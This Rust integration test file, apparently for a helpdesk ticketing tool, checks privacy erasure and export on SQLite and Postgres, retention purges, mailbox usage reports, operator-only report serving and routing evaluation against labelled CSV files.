    let text = crate::support::config_text(url, 143, &[], &extra);
    std::fs::write(dir.join("loket.toml"), &text).unwrap();
    let config = std::sync::Arc::new(loket::config::load_str(&text).unwrap());
    let store = loket::app::open_store(&config.store).await.unwrap();
    let pipeline = loket::app::pipeline(config.clone(), store.clone()).await.unwrap();
    let never = tokio_util::sync::CancellationToken::new();
    let outcome = loket::source::maildir::poll(&pipeline, &config.mailboxes[0], &never).await.unwrap();
    assert_eq!(outcome.created, 2);
    // Each also has a mail in quarantine, and IT rerouted Anna's ticket once:
    // routing learnt from it.
    let signer = loket::app::signer(&config.desk, &store).await.unwrap();
    let respond = loket::desk::Respond::new(
        loket::desk::Settings::from_config(&config),
        loket::outbound::render::Renderer::load(None).unwrap(),
        signer,
    );
    for (key, from, id) in
        [("3.M3.host", "Anna <anna@example.org>", "q-anna@t"), ("4.M4.host", "Bob <bob2@example.org>", "q-bob@t")]
    {
        let raw = request(from, "it@example.org", "Attached", "Zebrafink-Quarantaene-42", id);
        let incoming = loket::pipeline::plan::Incoming {
            mailbox: config.mailboxes[0].name.clone(),
            source_key: key.to_owned(),
            imap: None,
            size: raw.len() as u64,
            raw,
            truncated: false,
            backlog: false,
            received_at_ms: loket::clock::now_ms(),
            seen: false,
        };
        let plan = loket::pipeline::plan::Plan::Quarantine { reason: "a fault".into() };
        loket::pipeline::store_group(&store, &[(&incoming, &plan)], "SD", &respond, loket::clock::now_ms())
            .await
            .unwrap();
    }
    store.close().await;
    let raw = sqlx::AnyPool::connect(url).await.unwrap();
    sqlx::query(
        "INSERT INTO events (id, ticket_id, at, kind, detail, public_text)
         SELECT 'reroute-1', id, created_at, 'rerouted', '{}', 'hr' FROM tickets WHERE subject = 'Sick leave'",
    )
    .execute(&raw)
    .await
    .unwrap();
    // And a request on the web form that waits for her to confirm her address.
    sqlx::query(
        "INSERT INTO form_requests (id, address, client, language, raw, created_at, expires_at)
         VALUES ('form-1', 'anna@example.org', '127.0.0.1', 'nl', $1, $2, $3)",
    )
    .bind(b"Subject: Zebrafink-Formulier-7\r\n\r\nZebrafink-Formulier-7\r\n".to_vec())
    .bind(loket::clock::now_ms())
    .bind(loket::clock::now_ms() + 86_400_000)
    .execute(&raw)
    .await
    .unwrap();
    raw.close().await;
    let train = loket(&["train", "--config", "loket.toml"], dir);
    assert!(stdout(&train).contains("1 corrections"), "{}{}", stdout(&train), stderr(&train));
}

fn forget_and_export(dir: &Path) {
    let export = loket(&["export", "anna@example.org", "--config", "loket.toml"], dir);
    assert!(export.status.success(), "{}", stderr(&export));
    let data: serde_json::Value = serde_json::from_slice(&export.stdout).unwrap();
    let tickets = data["tickets"].as_array().unwrap();
    assert_eq!(tickets.len(), 1, "{data}");
    assert_eq!(tickets[0]["subject"], "Sick leave");
    assert!(tickets[0]["messages"][0]["text_body"].as_str().unwrap().contains("Zebrafink-Geheim-4711"));
    assert!(!stdout(&export).contains("Printer") && !stdout(&export).contains("bob2@"), "only Anna's data");

    assert_eq!(data["quarantined"].as_array().unwrap().len(), 1, "{data}");

    // As a folder: exactly Anna's mail as it came in and went out.
    let export = loket(&["export", "anna@example.org", "--dir", "anna", "--config", "loket.toml"], dir);
    assert!(export.status.success(), "{}", stderr(&export));
    let files = |folder: &str| -> Vec<String> {
        let mut texts: Vec<String> = std::fs::read_dir(dir.join("anna").join(folder))
            .map(|entries| entries.map(|e| std::fs::read_to_string(e.unwrap().path()).unwrap()).collect())
            .unwrap_or_default();
        texts.sort();
        texts
    };
    let received = files("messages");
    assert_eq!(received.len(), 1, "{received:?}");
    assert!(received[0].contains("Message-ID: <p1@t>") && received[0].contains("Zebrafink-Geheim-4711"));
    let sent = files("sent");
    assert!(
        !sent.is_empty() && sent.iter().all(|m| m.contains("To: Anna") || m.to_lowercase().contains("to: anna@")),
        "{sent:?}"
    );
    let quarantined = files("quarantine");
    assert_eq!(quarantined.len(), 1);
    assert!(quarantined[0].contains("<q-anna@t>"));
    let everything = [received, sent, quarantined].concat().join("\n");
    assert!(
        !everything.contains("bob2@") && !everything.contains("p2@t") && !everything.contains("q-bob@t"),
        "only Anna's mail"
    );
    assert!(serde_json::from_slice::<serde_json::Value>(&std::fs::read(dir.join("anna/data.json")).unwrap()).is_ok());

    let dry = loket(&["forget", "anna@example.org", "--dry-run", "--config", "loket.toml"], dir);
    assert!(stdout(&dry).contains("1 quarantined mails naming them"), "{}", stdout(&dry));
    assert!(stdout(&dry).contains("1 web form requests waiting for them to confirm"), "{}", stdout(&dry));
    assert!(stdout(&dry).contains("1 of their tickets learnt from by routing; 1 stored models"), "{}", stdout(&dry));
    assert!(stdout(&dry).contains("would erase") && stdout(&dry).contains("1 tickets they opened"), "{}", stdout(&dry));
    assert_eq!(stdout(&loket(&["tickets", "list", "--json", "--config", "loket.toml"], dir)).lines().count(), 2);

    let forget = loket(&["forget", "ANNA@example.org", "--config", "loket.toml"], dir);
    assert!(forget.status.success(), "{}", stderr(&forget));
    assert!(stdout(&forget).contains("erased"), "{}", stdout(&forget));
    let left = stdout(&loket(&["tickets", "list", "--json", "--config", "loket.toml"], dir));
    assert_eq!(left.lines().count(), 1, "{left}");
    assert!(left.contains("Printer"));
    let export = stdout(&loket(&["export", "anna@example.org", "--config", "loket.toml"], dir));
    assert!(!export.contains("Zebrafink"), "{export}");
    assert!(stdout(&forget).contains("routing retrained without them (0 corrections left)"), "{}", stdout(&forget));
    let quarantine = stdout(&loket(&["quarantine", "list", "--json", "--config", "loket.toml"], dir));
    assert_eq!(quarantine.lines().count(), 1, "Bob's quarantined mail stays: {quarantine}");
    assert!(!quarantine.to_lowercase().contains("anna@"), "{quarantine}");
    let again = loket(&["forget", "anna@example.org", "--dry-run", "--config", "loket.toml"], dir);
    assert!(stdout(&again).contains("0 web form requests"), "{}", stdout(&again));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forget_erases_one_person_from_a_sqlite_store_down_to_the_files_bytes_and_export_hands_over_only_theirs() {
    let dir = tempfile::tempdir().unwrap();
    two_people(dir.path(), &crate::support::sqlite_url(dir.path())).await;
    forget_and_export(dir.path());
    for file in ["loket.db", "loket.db-wal"] {
        if let Ok(bytes) = std::fs::read(dir.path().join(file)) {
            assert!(!bytes.windows(21).any(|w| w == b"Zebrafink-Geheim-4711"), "{file} still holds the text");
            assert!(!bytes.windows(21).any(|w| w == b"Zebrafink-Formulier-7"), "{file} still holds the form");
        }
    }
    // Bob's quarantined mail holds the same words; Anna's copy and the models are gone.
    let bytes = std::fs::read(dir.path().join("loket.db")).unwrap();
    assert_eq!(bytes.windows(24).filter(|w| *w == b"Zebrafink-Quarantaene-42").count(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forget_and_export_work_the_same_on_postgres() {
    let postgres = crate::support::postgres::Postgres::start();
    let url = postgres.database("privacy").await;
    let dir = tempfile::tempdir().unwrap();
    two_people(dir.path(), &url).await;
    forget_and_export(dir.path());
}

/// Retention: Anna's ticket was resolved long ago, Bob's is still open. A dry run
/// only counts; the purge then strips Anna's raw mail and anonymises her ticket,
/// and her words are gone from the SQLite file's bytes, while Bob's ticket stays.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn purge_applies_retention_to_long_resolved_tickets_down_to_the_files_bytes() {
    let dir = tempfile::tempdir().unwrap();
    let url = crate::support::sqlite_url(dir.path());
    two_people(dir.path(), &url).await;
    let days_ago = |days: i64| loket::clock::now_ms() - days * 86_400_000;
    {
        let raw = sqlx::AnyPool::connect(&url).await.unwrap();
        sqlx::query("UPDATE tickets SET status = 'resolved', updated_at = $1 WHERE subject = 'Sick leave'")
            .bind(days_ago(800))
            .execute(&raw)
            .await
            .unwrap();
        raw.close().await;
    }
    let dry = loket(&["purge", "--dry-run", "--config", "loket.toml"], dir.path());
    assert!(dry.status.success(), "{}", stderr(&dry));
    assert!(stdout(&dry).contains("1 messages would be stripped"), "{}", stdout(&dry));
    assert!(stdout(&dry).contains("1 tickets would be anonymised"), "{}", stdout(&dry));
    let listed = stdout(&loket(&["tickets", "list", "--json", "--config", "loket.toml"], dir.path()));
    assert!(listed.contains("Sick leave"), "a dry run changes nothing: {listed}");

    // A reader in the middle of a read (the status page, say) while the purge
    // runs, for longer than SQLite's busy timeout: the WAL is emptied once it
    // is done.
    let mut reader = <sqlx::AnyConnection as sqlx::Connection>::connect(&url).await.unwrap();
    sqlx::query("BEGIN").execute(&mut reader).await.unwrap();
    let _: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM tickets").fetch_one(&mut reader).await.unwrap();
    let purging = command(&["purge", "--config", "loket.toml"], dir.path())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    tokio::time::sleep(std::time::Duration::from_secs(12)).await;
    sqlx::query("COMMIT").execute(&mut reader).await.unwrap();
    let purge = purging.wait_with_output().unwrap();
    assert!(purge.status.success(), "{}", stderr(&purge));
    assert!(stdout(&purge).contains("1 tickets were anonymised"), "{}", stdout(&purge));
    let listed = stdout(&loket(&["tickets", "list", "--json", "--config", "loket.toml"], dir.path()));
    assert!(!listed.contains("Sick leave") && !listed.to_lowercase().contains("anna@"), "{listed}");
    assert!(listed.contains("Printer"), "the open ticket stays: {listed}");
    for file in ["loket.db", "loket.db-wal"] {
        if let Ok(bytes) = std::fs::read(dir.path().join(file)) {
            assert!(!bytes.windows(21).any(|w| w == b"Zebrafink-Geheim-4711"), "{file} still holds the text");
        }
    }
    // Without rewriting the file (which would hold up a running daemon's
    // writes): the pages freed are kept for new mail.
    let raw = sqlx::AnyPool::connect(&url).await.unwrap();
    let free: i64 = sqlx::query_scalar("PRAGMA freelist_count").fetch_one(&raw).await.unwrap();
    raw.close().await;
    assert!(free > 0, "the file was rewritten: {free} free pages");
    let again = loket(&["purge", "--config", "loket.toml"], dir.path());
    assert!(stdout(&again).contains("0 tickets were anonymised"), "a purge is done once: {}", stdout(&again));
}

/// Requests through two old mailboxes and the desk's own, taken in by the real
/// pipeline into the store at `url`, with its config in `dir`: at IT, Anna twice (her first two weeks
/// ago) and one out-of-office reply; at HR, Bob, and Carla's lost badge that a
/// rule sends to Facility; at the desk, Dirk, whose request staff pass on.
async fn counters(dir: &Path, url: &str) -> std::sync::Arc<loket::config::Config> {
    let mut extra = format!(
        "[outbox]\nfile_dir = \"{}\"\n[[routing.rules]]\nname = \"badges\"\ndepartment = \"facility\"\nkeywords = [\"toegangspas\"]\n",
        dir.join("out").display()
    );
    let mails: [(&str, Vec<u8>); 6] = [
        ("it", request("Anna <Anna@example.org>", "it@example.org", "VPN", "The VPN drops.", "c1@t")),
        ("it", request("Anna <anna@example.org>", "it@example.org", "Printer", "No toner.", "c2@t")),
        (
            "it",
            b"From: Erik <erik@example.org>\r\nTo: it@example.org\r\nSubject: Out of office\r\nAuto-Submitted: auto-replied\r\n\
              Message-ID: <c3@t>\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nI am away.\r\n"
                .to_vec(),
        ),
        ("hr", request("Bob <bob2@example.org>", "hr@example.org", "Sick leave", "I am ill today.", "c4@t")),
        (
            "hr",
            request("Carla <carla@example.org>", "hr@example.org", "Pasje", "Mijn toegangspas is kwijt.", "c5@t"),
        ),
        ("desk", request("Dirk <dirk@example.org>", "servicedesk@example.org", "Laptop", "My laptop does not start.", "c6@t")),
    ];
    for (i, (folder, mail)) in mails.iter().enumerate() {
        let maildir = dir.join(folder);
        for sub in ["new", "cur", "tmp"] {
            std::fs::create_dir_all(maildir.join(sub)).unwrap();
        }
        std::fs::write(maildir.join(format!("new/{i}.M{i}.host")), mail).unwrap();
    }
    for (folder, name, department) in [("it", "it-old", "it"), ("hr", "hr-old", "hr"), ("desk", "desk", "")] {
        let department = if department.is_empty() { String::new() } else { format!("department = \"{department}\"\n") };
        let maildir = dir.join(folder).display().to_string();
        extra.push_str(&format!("[[mailboxes]]\nname = \"{name}\"\n{department}maildir = \"{maildir}\"\n"));
    }
    let text = crate::support::config_text(url, 143, &[], &extra);
    std::fs::write(dir.join("loket.toml"), &text).unwrap();
    let config = std::sync::Arc::new(loket::config::load_str(&text).unwrap());
    let store = loket::app::open_store(&config.store).await.unwrap();
    let pipeline = loket::app::pipeline(config.clone(), store.clone()).await.unwrap();
    let never = tokio_util::sync::CancellationToken::new();
    for mailbox in &config.mailboxes {
        loket::source::maildir::poll(&pipeline, mailbox, &never).await.unwrap();
    }
    sqlx::any::install_default_drivers();
    let pool = sqlx::AnyPool::connect(config.store.url.expose()).await.unwrap();
    // The department that got Dirk's request passes it on with `#route`.
    let (queue, forward): (String, String) = sqlx::query_as(
        "SELECT o.recipient, o.message_id FROM outbox o JOIN tickets t ON t.id = o.ticket_id \
         WHERE t.subject = 'Laptop' AND o.recipient LIKE '%-queue@example.org'",
    )
    .fetch_one(&pool)
    .await
    .unwrap();
    let target = if queue.starts_with("hr-") { "facility" } else { "hr" };
    let route = crate::support::desk::reply(
        &queue,
        "servicedesk@example.org",
        "Re: Laptop",
        &format!("#route {target}\nNot ours."),
        "c7@t",
        forward.trim_matches(['<', '>']),
    );
    std::fs::write(dir.join("desk/new/7.M7.host"), route).unwrap();
    let desk = loket::config::mailbox_named(&config.mailboxes, "desk").unwrap();
    loket::source::maildir::poll(&pipeline, desk, &never).await.unwrap();
    let two_weeks = 14 * 86_400_000_i64;
    let moved = sqlx::query("UPDATE tickets SET created_at = created_at - $1 WHERE subject = 'VPN'")
        .bind(two_weeks)
        .execute(&pool)
        .await
        .unwrap();
    assert_eq!(moved.rows_affected(), 1);
    pool.close().await;
    store.close().await;
    config
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn report_counts_each_old_mailbox_and_the_desk_and_the_desk_addresss_share_week_by_week() {
    let dir = tempfile::tempdir().unwrap();
    counters(dir.path(), &crate::support::sqlite_url(dir.path())).await;
    report_figures(dir.path());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn report_counts_the_same_on_postgres() {
    let postgres = crate::support::postgres::Postgres::start();
    let url = postgres.database("report").await;
    let dir = tempfile::tempdir().unwrap();
    counters(dir.path(), &url).await;
    report_figures(dir.path());
}

/// `loket report` in every format over the store [`counters`] filled.
fn report_figures(dir: &Path) {
    let run = |args: &[&str]| {
        let mut all = vec!["report", "--config", "loket.toml"];
        all.extend_from_slice(args);
        let output = loket(&all, dir);
        assert!(output.status.success(), "{}", stderr(&output));
        stdout(&output)
    };
    let report: serde_json::Value = serde_json::from_str(&run(&["--json"])).unwrap();
    let mailbox = |name: &str| report["mailboxes"].as_array().unwrap().iter().find(|m| m["name"] == name).unwrap();
    let figures = |name: &str| {
        let m = mailbox(name);
        (
            m["department"].clone(),
            m["requests"].as_i64(),
            m["automatic"].as_i64(),
            m["rerouted"].as_i64(),
            m["senders"].as_i64(),
        )
    };
    assert_eq!(figures("it-old"), ("it".into(), Some(2), Some(1), Some(0), Some(1)), "{report}");
    assert_eq!(figures("hr-old"), ("hr".into(), Some(2), Some(0), Some(1), Some(2)), "{report}");
    assert_eq!(figures("desk"), (serde_json::Value::Null, Some(1), Some(0), Some(1), Some(1)), "{report}");
    assert_eq!(mailbox("it-old")["top_senders"][0]["address"], "anna@example.org");
    assert_eq!(mailbox("it-old")["top_senders"][0]["requests"], 2);
    assert!(mailbox("desk")["last_request_at"].as_str().is_some_and(|t| t.ends_with('Z')), "{report}");
    assert_eq!(mailbox("it-old")["quiet_days"], 0, "Anna wrote today: {report}");
    assert_eq!(mailbox("it-old")["safe_to_switch_off"], false, "{report}");
    assert_eq!(report["safe_after_quiet_days"], 30, "{report}");
    // Three weeks: Anna's first request, a quiet week, and this week's four, one of them to the desk.
    let weeks = report["weeks"].as_array().unwrap();
    let series: Vec<(i64, i64)> =
        weeks.iter().map(|w| (w["requests"].as_i64().unwrap(), w["desk_requests"].as_i64().unwrap())).collect();
    assert_eq!(series, [(1, 0), (0, 0), (4, 1)], "{report}");
    assert_eq!(weeks[2]["desk_share"], 0.25);
    let it_weeks: Vec<i64> =
        mailbox("it-old")["weeks"].as_array().unwrap().iter().map(|w| w["requests"].as_i64().unwrap()).collect();
    assert_eq!(it_weeks, [1, 0, 1]);

    let since = (chrono::Utc::now() - chrono::Duration::days(7)).format("%Y-%m-%d").to_string();
    let recent: serde_json::Value = serde_json::from_str(&run(&["--json", "--since", &since])).unwrap();
    let it = recent["mailboxes"].as_array().unwrap().iter().find(|m| m["name"] == "it-old").unwrap().clone();
    assert_eq!(it["requests"], 1, "{recent}");

    let csv = run(&["--csv"]);
    let rows: Vec<&str> = csv.lines().collect();
    assert_eq!(rows[0], "week,mailbox,department,requests,automatic,rerouted,desk_share");
    assert_eq!(rows.len(), 1 + 3 * 3, "{csv}");
    assert!(rows.last().unwrap().starts_with(weeks[2]["week"].as_str().unwrap()), "{csv}");
    assert!(rows.iter().any(|r| r.ends_with(",hr-old,hr,2,0,1,0.250")), "{csv}");

    run(&["--html", "report.html"]);
    let page = std::fs::read_to_string(dir.join("report.html")).unwrap();
    assert!(page.contains("<svg"), "{page}");
    assert!(!page.to_lowercase().contains("<script"), "{page}");
    assert!(page.contains("anna@example.org") && page.contains("hr-old"), "{page}");

    let text = run(&[]);
    assert!(text.contains("hr-old") && text.contains("25%"), "{text}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_report_page_is_served_to_operators_and_not_on_the_employees_listener() {
    let dir = tempfile::tempdir().unwrap();
    let config = counters(dir.path(), &crate::support::sqlite_url(dir.path())).await;
    let shutdown = tokio_util::sync::CancellationToken::new();
    let daemon = tokio::spawn(loket::app::run(config.clone(), shutdown.clone()));
    let ops = format!("http://{}", config.web.ops_address());
    let public = format!("http://{}", config.web.listen);
    let up = || async {
        tokio::net::TcpStream::connect(config.web.ops_address()).await.is_ok()
            && tokio::net::TcpStream::connect(config.web.listen).await.is_ok()
    };
    crate::support::eventually("the listeners", std::time::Duration::from_secs(30), up).await;

    let page = crate::support::http::get(&format!("{ops}/report")).await;
    assert_eq!(page.status, 200, "{}", page.body);
    assert!(page.body.contains("<svg") && page.body.contains("hr-old"), "{}", page.body);
    assert!(!page.body.to_lowercase().contains("<script"));
    let csp = &page.headers["content-security-policy"];
    assert!(csp.contains("style-src 'sha256-") && !csp.contains("script-src"), "{csp}");
    assert_eq!(crate::support::http::get(&format!("{public}/report")).await.status, 404);

    shutdown.cancel();
    daemon.await.unwrap().unwrap();
}

#[test]
fn eval_measures_labelled_requests_and_refuses_a_file_of_endless_labels_naming_the_way_out() {
    let dir = tempfile::tempdir().unwrap();
    let output = loket(&["demo", "--dir", "demo", "--once"], dir.path());
    assert!(output.status.success(), "{}", stderr(&output));
    let csv = "subject,body,label\n\
               Laptop kapot,Mijn laptop start niet meer op,Hardware\n\
               Payslip wrong,My payslip shows the wrong salary this month,People\n\
               Lamp stuk,De lamp boven mijn bureau is kapot,Building\n";
    std::fs::write(dir.path().join("labelled.csv"), csv).unwrap();
    let args = ["eval", "--json", "--config", "demo/loket.toml", "--csv", "labelled.csv"];
    let mapped = [&args[..], &["--map", "Hardware=it", "--map", "People=hr", "--map", "Building=facility"]].concat();
    let output = loket(&mapped, dir.path());
    assert!(output.status.success(), "{}", stderr(&output));
    let value: serde_json::Value = serde_json::from_str(&stdout(&output)).unwrap();
    assert_eq!(value["report"]["examples"], 3);
    assert_eq!(value["report"]["macro_f1"], 1.0, "{value}");
    assert_eq!(value["report"]["confusion"].as_array().unwrap().len(), 3);

    let mut endless = String::from("subject,body,label\n");
    for i in 0..1_001 {
        endless.push_str(&format!("Vraag {i},Een vraag,label {i}\n"));
    }
    std::fs::write(dir.path().join("endless.csv"), endless).unwrap();
    let output = loket(&["eval", "--config", "demo/loket.toml", "--csv", "endless.csv"], dir.path());
    assert!(!output.status.success());
    let message = stderr(&output);
    assert!(message.contains("1001 different labels") && message.contains("--map"), "{message}");
}
